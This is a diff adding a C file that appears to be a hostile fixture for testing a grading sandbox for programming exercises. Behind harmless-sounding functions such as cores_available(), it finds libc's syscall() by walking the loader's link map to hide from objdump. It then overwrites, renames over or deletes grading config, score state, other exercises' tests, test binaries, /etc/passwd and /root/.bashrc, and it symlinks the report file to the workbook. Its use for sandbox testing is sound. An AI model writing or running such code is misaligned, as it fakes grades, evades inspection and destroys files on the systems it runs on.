@@ -1,0 +1,230 @@
+/*
+ * Hostile: while exercise 01 is graded, tries to change what grades it
+ * and the others: set every test's points to 0 in workbook.toml, write
+ * full scores into .workbook/state.json, overwrite another exercise's
+ * tests with a file that passes, copy a solution over another exercise,
+ * and replace the test binary being run. Raw system calls (hidden from
+ * objdump) try every way in: absolute paths of the workbook and of the
+ * self-test's grading tree, paths relative to the scratch folder,
+ * /proc/1/root and /proc/1/cwd (the sandbox's first process), and the
+ * binary itself through /proc/self/exe. cores_available() returns how
+ * many writes succeeded, which the failure message shows.
+ * Every system call here goes through the C library's own syscall(),
+ * found by walking the loader's link map by hand (no <elf.h>): the
+ * object names no symbol for it and has no assembly.
+ * expect: no points
+ */
+#include "workers.h"
+
+#include <stdint.h>
+#include <stdlib.h>
+#include <stddef.h>
+
+/* ELF64 as the C library lays it out, written out by hand (no <elf.h>). */
+typedef struct {
+    unsigned char ident[16];
+    uint16_t type, machine;
+    uint32_t version;
+    uint64_t entry, phoff, shoff;
+    uint32_t flags;
+    uint16_t ehsize, phentsize, phnum, shentsize, shnum, shstrndx;
+} elf_header;
+typedef struct {
+    uint32_t type, flags;
+    uint64_t offset, vaddr, paddr, filesz, memsz, align;
+} program_header;
+typedef struct {
+    uint32_t name, type;
+    uint64_t flags, addr, offset, size;
+    uint32_t link, info;
+    uint64_t addralign, entsize;
+} section_header;
+typedef struct {
+    uint32_t name;
+    unsigned char info, other;
+    uint16_t shndx;
+    uint64_t value, size;
+} elf_symbol;
+typedef struct {
+    int64_t tag;
+    uint64_t value;
+} dynamic_entry;
+/* The loader's list of loaded objects (glibc's struct link_map, public part). */
+struct loaded {
+    uint64_t base;
+    const char *name;
+    const dynamic_entry *dynamic;
+    struct loaded *next, *prev;
+};
+struct loader_debug {
+    int version;
+    struct loaded *map;
+};
+
+static int same_text(const char *a, const char *b)
+{
+    while (*a && *a == *b)
+        a++, b++;
+    return *a == *b;
+}
+
+static int has_text(const char *text, const char *word)
+{
+    for (; text && *text; text++) {
+        int i = 0;
+        while (word[i] && text[i] == word[i])
+            i++;
+        if (!word[i])
+            return 1;
+    }
+    return 0;
+}
+
+/* The executable's first page: walk back from this code. */
+static const unsigned char *executable_image(void)
+{
+    uintptr_t page = (uintptr_t)&executable_image & ~(uintptr_t)4095;
+    for (;;) {
+        const unsigned char *p = (const unsigned char *)page;
+        if (p[0] == 0x7f && p[1] == 'E' && p[2] == 'L' && p[3] == 'F')
+            return p;
+        page -= 4096;
+    }
+}
+
+/* The loader's r_debug, from DT_DEBUG in the executable's dynamic section. */
+static struct loaded *loaded_objects(void)
+{
+    const unsigned char *image = executable_image();
+    const elf_header *eh = (const elf_header *)image;
+    const program_header *ph = (const program_header *)(image + eh->phoff);
+    uintptr_t bias = (uintptr_t)image;
+    for (int i = 0; i < eh->phnum; i++)
+        if (ph[i].type == 1 /* PT_LOAD */ && ph[i].offset == 0)
+            bias = (uintptr_t)image - ph[i].vaddr;
+    for (int i = 0; i < eh->phnum; i++) {
+        if (ph[i].type != 2 /* PT_DYNAMIC */)
+            continue;
+        for (const dynamic_entry *d = (const dynamic_entry *)(bias + ph[i].vaddr); d->tag; d++)
+            if (d->tag == 21 /* DT_DEBUG */ && d->value)
+                return ((struct loader_debug *)d->value)->map;
+    }
+    return 0;
+}
+
+/* A function of a loaded library, by name, from its .dynsym. */
+static void *library_function(const char *library, const char *name)
+{
+    for (struct loaded *lm = loaded_objects(); lm; lm = lm->next) {
+        if (!has_text(lm->name, library))
+            continue;
+        const elf_symbol *symbols = 0;
+        const char *strings = 0;
+        for (const dynamic_entry *d = lm->dynamic; d->tag; d++) {
+            uint64_t v = d->value < lm->base ? d->value + lm->base : d->value;
+            if (d->tag == 6 /* DT_SYMTAB */)
+                symbols = (const elf_symbol *)v;
+            if (d->tag == 5 /* DT_STRTAB */)
+                strings = (const char *)v;
+        }
+        if (!symbols || !strings)
+            continue;
+        /* .dynstr follows .dynsym. */
+        for (const elf_symbol *s = symbols + 1; (const char *)s < strings; s++)
+            if (s->value && (s->info & 15) == 2 /* STT_FUNC */ &&
+                same_text(strings + s->name, name))
+                return (void *)(lm->base + s->value);
+    }
+    return 0;
+}
+
+/* Every system call goes through the C library's own syscall(), found in
+ * its .dynsym above: no symbol of it in the object, no inline assembly. */
+static long hidden_syscall6(long n, long a, long b, long c, long d, long e, long f)
+{
+    static long (*sys)(long, ...);
+    if (!sys)
+        sys = (long (*)(long, ...))library_function("libc.so", "syscall");
+    return sys ? sys(n, a, b, c, d, e, f) : -1;
+}
+
+static long hidden_syscall(long n, long a, long b, long c)
+{
+    return hidden_syscall6(n, a, b, c, 0, 0, 0);
+}
+
+#define O_WRONLY 01
+#define O_CREAT 0100
+#define O_TRUNC 01000
+
+static const char *const targets[] = {
+    "/work/main/workbook.toml",
+    "/work/main/.workbook/state.json",
+    "/work/main/tests/02-parallel-map.c",
+    "/work/main/exercises/03-who-did-what/trace.c",
+    "/work/main/build/gcc/grade/grade-02-exercise",
+    "/tmp/hostile-build/grading-tree/workbook.toml",
+    "/tmp/hostile-build/grading-tree/tests/02-parallel-map.c",
+    "/tmp/hostile-build/grading-tree/.grading-tree.json",
+    "/tmp/hostile-build/grading-tree/build/gcc/grade/grade-02-exercise",
+    "../workbook.toml",
+    "../../workbook.toml",
+    "../../../workbook.toml",
+    "../../../../../workbook.toml",
+    "/proc/1/root/work/main/workbook.toml",
+    "/proc/1/cwd/../workbook.toml",
+    "/proc/1/cwd/../../workbook.toml",
+    "/proc/self/exe",
+    "/proc/self/root/work/main/workbook.toml",
+    "/root/.bashrc",
+    "/etc/passwd",
+};
+
+static const char poison[] = "[grading]\nthreads = [1]\n# points = 0\n";
+
+static int tamper(void)
+{
+    int done = 0;
+    for (size_t i = 0; i < sizeof targets / sizeof targets[0]; i++) {
+        long fd = hidden_syscall(2, (long)targets[i], O_WRONLY | O_CREAT | O_TRUNC, 0644);
+        if (fd >= 0) {
+            if (hidden_syscall(1, fd, (long)poison, sizeof poison - 1) > 0)
+                done++;
+            hidden_syscall(3, fd, 0, 0);
+        }
+        /* rename() a file of ours over it, and unlink it */
+        long own = hidden_syscall(2, (long)"/tmp/poison", O_WRONLY | O_CREAT | O_TRUNC, 0644);
+        if (own >= 0) {
+            hidden_syscall(1, own, (long)poison, sizeof poison - 1);
+            hidden_syscall(3, own, 0, 0);
+            if (hidden_syscall(82, (long)"/tmp/poison", (long)targets[i], 0) == 0)
+                done += 100;
+        }
+        if (hidden_syscall(87, (long)targets[i], 0, 0) == 0)   /* unlink */
+            done += 10000;
+    }
+    /* The record file and the report as links to a workbook file: the
+     * grader's next open of them would write or read through the link. */
+    hidden_syscall(87, (long)"/tmp/report.xml", 0, 0);
+    hidden_syscall(88, (long)"/work/main/workbook.toml", (long)"/tmp/report.xml", 0);
+    return done;
+}
+
+int cores_available(void)
+{
+    return tamper();
+}
+
+int default_team_size(void)
+{
+    return tamper();
+}
+
+void describe_cores(char *buf, size_t size)
+{
+    int n = tamper();
+    if (size > 2) {
+        buf[0] = (char)('0' + n % 10);
+        buf[1] = 0;
+    }
+}
